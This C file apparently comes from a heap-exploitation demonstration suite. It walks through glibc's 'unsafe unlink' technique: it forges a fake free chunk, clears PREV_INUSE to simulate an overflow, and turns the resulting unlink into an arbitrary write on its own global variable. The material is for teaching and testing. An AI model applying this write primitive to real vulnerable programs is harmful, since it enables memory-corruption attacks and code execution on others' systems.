/* Technique: unsafe unlink (how2heap unsafe_unlink).

   Goal: a write to a chosen address (the global victim_var).

   How: chunk0_ptr, a global, points at a 0x430 chunk; inside it the
   program builds a fake free chunk with fd = &chunk0_ptr - 3 and
   bk = &chunk0_ptr - 2, so that fd->bk == bk->fd == fake chunk, as
   unlink checks.  A heap overflow from chunk0 sets the next chunk's
   prev_size to the fake chunk's size and clears its PREV_INUSE.
   free (chunk1) consolidates backward and unlinks the fake chunk, which
   makes chunk0_ptr point at &chunk0_ptr - 3.  Writing chunk0_ptr[3]
   then redirects chunk0_ptr itself to any address, and chunk0_ptr[0]
   writes there.  */
#include "attack.h"

size_t *chunk0_ptr;
size_t victim_var = 0x1111111111111111;

int
main (void)
{
  attack_init ("unsafe_unlink: fake free chunk + cleared PREV_INUSE, unlink writes a global pointer");
  chunk0_ptr = malloc (0x428);		/* chunk 0x430, outside the tcache */
  size_t *chunk1_ptr = malloc (0x428);
  void *guard = malloc (0x18);
  say ("chunk0 %p chunk1 %p &chunk0_ptr %p &victim_var %p",
       chunk0_ptr, chunk1_ptr, &chunk0_ptr, &victim_var);

  size_t fsize = (size_t) CHUNK (chunk1_ptr) - (size_t) chunk0_ptr;
  chunk0_ptr[1] = fsize;				/* fake size */
  chunk0_ptr[2] = (size_t) (&chunk0_ptr - 3);	/* fd */
  chunk0_ptr[3] = (size_t) (&chunk0_ptr - 2);	/* bk */
  chunk0_ptr[4] = 0;				/* fd_nextsize */
  chunk0_ptr[5] = 0;				/* bk_nextsize */
  /* The overflow: chunk1's prev_size (chunk0's last word) and size.  */
  PREV_SIZE (chunk1_ptr) = fsize;
  SIZE (chunk1_ptr) &= ~(size_t) PREV_INUSE;

  free (chunk1_ptr);
  say ("after free: chunk0_ptr = %p", chunk0_ptr);
  chunk0_ptr[3] = (size_t) &victim_var;
  chunk0_ptr[0] = 0x4242424242424242;
  if (victim_var == 0x4242424242424242)
    reached ("victim_var at %p overwritten through chunk0_ptr", &victim_var);
  no_effect ("victim_var unchanged (%#zx)", victim_var);
}
